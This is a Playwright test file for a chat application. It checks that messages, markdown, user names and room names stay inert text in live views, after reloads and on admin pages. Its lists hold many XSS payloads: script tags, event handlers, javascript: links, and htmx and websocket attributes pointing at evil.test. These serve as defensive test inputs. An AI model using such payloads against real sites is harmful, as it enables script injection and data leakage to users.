"""People's words are words, wherever they are shown: the watch over every page finds no script, request or socket."""

from collections.abc import Callable

import pytest
from playwright.sync_api import Error, Page, expect

from multichat.accounts import changes as account_changes
from multichat.models import Room
from multichat.rooms import changes as room_changes
from tests.browser.pane import sidebar_link
from tests.browser.person import Person
from tests.browser.site import Site

HOSTILE = [
    "<script>pwned=1</script>",
    "<img src=x onerror=pwned=1>",
    "<img src=http://evil.test/pixel>",
    "<svg onload=pwned=1></svg>",
    "<b style=position:fixed;inset:0>",
    "<a href=javascript:pwned=1>x</a>",
    "<iframe src=//evil.test></iframe>",
    "<p hx-get=//evil.test hx-trigger=load>",
    "<p hx-on::load=pwned=1 data-hx-get=/>",
    "<p hx-swap-oob=innerHTML:body>gone",
    "<div hx-ext=ws ws-connect=//evil.test>",
    "<div data-ws-connect=ws://evil.test>",
    "<div hx-ws=connect:ws://evil.test>",
    "<p data-hx-ws=connect:ws://evil.test>",
    "</article></room-timeline><h1>Hi</h1>",
    "<form action=//evil.test><button>",
    "{{ config }} ${pwned=1} #{7*7}",
    '"\' onfocus=pwned=1 autofocus x="',
    "&lt;script&gt;pwned=1&lt;/script&gt;",
    "\N{RIGHT-TO-LEFT OVERRIDE}gnp.exe",
    "\N{ARABIC LETTER MEEM}\N{ARABIC LETTER REH}\N{ARABIC LETTER HAH} hello",
    "Z\N{COMBINING ACUTE ACCENT}\N{COMBINING DIAERESIS}algo",
]


HOSTILE_MARKDOWN = [
    "[x](javascript:pwned=1) [x](JAVASCRIPT:pwned=1) [x](data:text/html,<script>pwned=1</script>) <javascript:pwned=1>",
    '![x](http://evil.test/pixel) ![x](x "onerror=pwned=1") [![x](//evil.test/pixel)](//evil.test)',
    '[x](/ "onmouseover=pwned=1 \'") [x](</" onfocus="pwned=1" autofocus x=">) <http://evil.test/"onclick="pwned=1>',
    "```html\n<script>pwned=1</script>\n<img src=x onerror=pwned=1>\n```\n`<svg onload=pwned=1>`",
    "``` onfocus=pwned=1 class=x><script>pwned=1</script>\n<iframe src=//evil.test>\n```",
    "| <img src=x onerror=pwned=1> |\n|:-:|\n| <p hx-get=//evil.test hx-trigger=load> |",
    "# <h1>Hi</h1>\n- </ul></article><h1>Hi</h1>\n> </blockquote><b style=position:fixed;inset:0>",
    '@here<script>pwned=1</script> @bob"onfocus=pwned=1 :tada:<svg onload=pwned=1>',
]


# What we put on no page. The watch hears of what it would do; this of what would wait for somebody to come near.
FOREIGN = "main :is(script, iframe, img, b[style], [onerror], [onload], [onfocus], a[href^=javascript], [ws-connect])"


def expect_inert(page: Page) -> None:
    assert page.evaluate("typeof pwned") == "undefined"
    assert page.locator(FOREIGN).count() == 0
    assert page.get_by_role("heading", name="Hi", exact=True).count() == 0


def test_hostile_messages_are_words_live_after_a_reload_and_in_administration(
    alice: Person, bob: Person, ada: Person, lobby: Room
) -> None:
    here, there = alice.open(lobby), bob.open(lobby)
    for begin in (0, 11):
        # Eleven a turn: more than twenty in ten seconds would be too fast.
        speaker = (here, there)[begin > 0]
        for body in HOSTILE[begin : begin + 11]:
            speaker.say(body)
        expect(here.messages).to_have_count(begin + 11)
    for pane, person in ((here, alice), (there, bob)):
        expect(pane.messages.get_by_role("paragraph")).to_have_text(HOSTILE)
        expect_inert(pane.page)
        person.expect_fresh(pane)
    here.page.reload()
    alice.expect_in(here)
    expect(here.messages.get_by_role("paragraph")).to_have_text(HOSTILE)
    expect_inert(here.page)
    admin = ada.page("/admin/messages/")
    expect_inert(admin)
    admin.get_by_role("link", name=HOSTILE[0]).click()
    expect(admin.get_by_text(HOSTILE[0], exact=True)).to_be_visible()
    expect_inert(admin)


def test_hostile_markdown_does_nothing_live_or_after_a_reload(alice: Person, bob: Person, lobby: Room) -> None:
    here, there = alice.open(lobby), bob.open(lobby)
    for body in HOSTILE_MARKDOWN:
        there.say(body)
    expect(here.messages).to_have_count(len(HOSTILE_MARKDOWN))
    expect_inert(here.page)
    alice.expect_fresh(here)
    here.page.reload()
    alice.expect_in(here)
    expect(here.messages).to_have_count(len(HOSTILE_MARKDOWN))
    assert here.timeline.locator("a:not([href^=http], [href^='/'])").count() == 0
    assert here.timeline.locator(".message__body [class]:not(.code, .table, .mention, pre *)").count() == 0
    expect_inert(here.page)


@pytest.mark.slow
def test_hostile_names_are_words_live_after_a_reload_and_in_administration(
    site: Site, alice: Person, ada: Person, join: Callable[..., Person], lobby: Room, garden: Room
) -> None:
    here, home = alice.open(lobby), alice.page()
    for number, name in enumerate(HOSTILE):
        mallory = join(f"mallory{number}")
        with site.app.app_context():
            account_changes.rename(mallory.id, name)
            room_changes.create(name, topic=name)
        if number in (1, 4):
            there = mallory.open(lobby)
            there.field.press_sequentially("x")
            expect(here.typing).to_contain_text(name)
            there.say("It is me")
            expect(here.messages.last).to_contain_text(name)
            there.page.close()
    for name in ("<svg onload=pwned=1>", "<i onfocus=pwned=1>"):
        with site.app.app_context():
            room_changes.edit(lobby.id, name, name, lobby.access)
        for page in (here.page, home):
            expect(sidebar_link(page, name)).to_be_visible()
        expect(here.element.get_by_role("heading", name=name, exact=True)).to_be_visible()
        expect(home.get_by_role("main").get_by_text(name, exact=True)).to_have_count(2)
    for page in (here.page, home):
        for name in HOSTILE:
            expect(page.get_by_role("navigation", name="Rooms").get_by_text(name, exact=True).first).to_be_attached()
        expect_inert(page)
        page.reload()
        expect_inert(page)
    page = ada.page()
    for path in (
        "/admin/rooms/",
        f"/admin/rooms/edit/?id={lobby.id}",
        f"/admin/rooms/delete/?id={lobby.id}",
        "/admin/people/?search=mallory",
        f"/admin/people/edit/?id={mallory.id}",
        "/admin/messages/",
    ):
        page.goto(path)
        expect_inert(page)


def test_htmx_can_open_no_socket_to_another_host(alice: Person, lobby: Room) -> None:
    """Whatever `ws-connect` it finds: markup that came through the clean-up finds a second lock."""
    page = alice.open(lobby).page
    for url in ("ws://evil.test/ws", "wss://evil.test/ws", "ws://127.0.0.1:1/ws"):
        with pytest.raises(Error, match="No socket to"):
            page.evaluate("url => { htmx.createWebSocket(url); }", url)
